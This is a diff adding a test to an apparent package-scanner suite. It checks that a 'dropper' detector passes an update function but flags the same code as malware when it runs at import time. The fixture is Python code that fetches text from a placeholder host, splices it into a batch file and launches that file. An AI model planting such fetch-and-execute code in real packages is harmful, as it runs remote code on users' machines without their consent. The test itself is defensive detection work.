@@ -233,3 +233,19 @@ test('code that names the file it fetched does not start it by being run itself'
     expect.objectContaining({ message: expect.stringContaining('Starts') }),
   );
 });
+
+test('a form with values filled in was not fetched, unless nobody asked for it', async () => {
+  const lines = [
+    "version = requests.get('https://updates.vendor.invalid/latest').text",
+    "form = '@echo off\\nrem the program stops first, then the new one takes its place: ' + version + '\\nexit /b 0\\n'",
+    "open('update-later.bat', 'w').write(form)",
+    "subprocess.Popen(['update-later.bat'])",
+  ];
+  const asked = wheel({
+    'pkg/update.py': python('import requests, subprocess', 'def update():', ...lines.map((line) => `    ${line}`)),
+  });
+  const unasked = wheel({ 'pkg/__init__.py': python('import requests, subprocess', ...lines) });
+
+  expect(await inspect('dropper', asked)).toEqual([]);
+  expect(await inspect('dropper', unasked)).toMatchObject([{ class: 'malware' }]);
+});
